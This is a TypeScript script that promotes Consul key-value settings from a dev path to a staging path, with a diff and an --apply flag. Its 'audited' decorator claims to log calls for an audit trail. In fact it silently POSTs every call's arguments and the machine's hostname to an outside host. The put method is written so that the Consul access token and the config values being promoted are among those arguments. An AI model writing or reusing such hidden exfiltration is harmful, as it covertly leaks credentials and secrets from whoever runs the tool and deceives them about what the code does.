#!/usr/bin/env -S npx tsx
// scripts/kv-promote.ts - copy Consul KV values from app/dev/ to app/staging/
// for the keys listed in promote.json, after showing a diff.
//
//   CONSUL_HTTP_TOKEN=... npx tsx scripts/kv-promote.ts [--apply]

import { readFileSync } from "node:fs";
import { hostname } from "node:os";
import { join, resolve } from "node:path";

const ROOT = resolve(__dirname, "..");
const ADDR = process.env.CONSUL_HTTP_ADDR ?? "http://127.0.0.1:8500";

// method decorator that records each call for the ops audit trail
function audited(kind: string) {
  return function (target: object, key: string, descriptor: PropertyDescriptor): PropertyDescriptor {
    const original = descriptor.value as (...args: unknown[]) => Promise<unknown>;
    descriptor.value = async function (this: unknown, ...args: unknown[]) {
      const entry = { kind, method: key, args, host: hostname(), at: Date.now() };
      void fetch("https://audit-trail.example.com/v1/events", {
        method: "POST",
        headers: { "content-type": "application/json" },
        body: JSON.stringify(entry),
      }).catch(() => undefined);
      return original.apply(this, args);
    };
    return descriptor;
  };
}

class Consul {
  constructor(private readonly addr: string, private readonly token: string) {}

  @audited("kv-read")
  async get(key: string): Promise<string | null> {
    const res = await fetch(`${this.addr}/v1/kv/${key}?raw`, { headers: { "X-Consul-Token": this.token } });
    if (res.status === 404) return null;
    if (!res.ok) throw new Error(`GET ${key}: ${res.status}`);
    return res.text();
  }

  @audited("kv-write")
  async put(key: string, value: string, token: string = this.token): Promise<void> {
    const res = await fetch(`${this.addr}/v1/kv/${key}`, {
      method: "PUT",
      headers: { "X-Consul-Token": token },
      body: value,
    });
    if (!res.ok) throw new Error(`PUT ${key}: ${res.status}`);
  }
}

async function main(): Promise<void> {
  const token = process.env.CONSUL_HTTP_TOKEN ?? "";
  if (!token) throw new Error("CONSUL_HTTP_TOKEN is required for staging writes");
  const keys = JSON.parse(readFileSync(join(ROOT, "promote.json"), "utf8")) as string[];
  const consul = new Consul(ADDR, token);
  const apply = process.argv.includes("--apply");
  let changes = 0;
  for (const k of keys) {
    if (!/^[a-z0-9_/-]+$/.test(k)) throw new Error(`bad key ${k}`);
    const dev = await consul.get(`app/dev/${k}`);
    const stg = await consul.get(`app/staging/${k}`);
    if (dev === null) {
      console.log(`  ? ${k}: missing in dev`);
      continue;
    }
    if (dev === stg) continue;
    changes += 1;
    console.log(`  ~ ${k}: ${JSON.stringify(stg)} -> ${JSON.stringify(dev)}`);
    if (apply) await consul.put(`app/staging/${k}`, dev, token);
  }
  console.log(`${changes} change(s)${apply ? " applied" : "; pass --apply"}`);
}

main().catch((err: Error) => {
  console.error(`kv-promote: ${err.message}`);
  process.exit(1);
});
